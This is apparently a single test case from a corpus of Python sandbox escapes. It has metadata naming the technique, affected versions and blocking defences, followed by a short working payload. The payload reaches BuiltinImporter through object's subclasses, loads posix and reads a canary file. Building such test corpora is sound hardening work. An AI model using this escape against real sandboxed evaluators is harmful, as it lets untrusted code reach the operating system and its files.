# id: mro-dunder-index
# family: object-graph
# kind: escape
# invariant: D, E, G
# origin: asteval's table of unsafe attributes
# technique: the last entry of __mro__ is object; among its children is the importer that makes any built-in module anew
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

top = (1).__class__.__mro__[-1]
importer = [c for c in top.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
posix = importer.load_module("posix")
handle = posix.open("canary.txt", posix.O_RDONLY)
print(posix.read(handle, 100).decode())
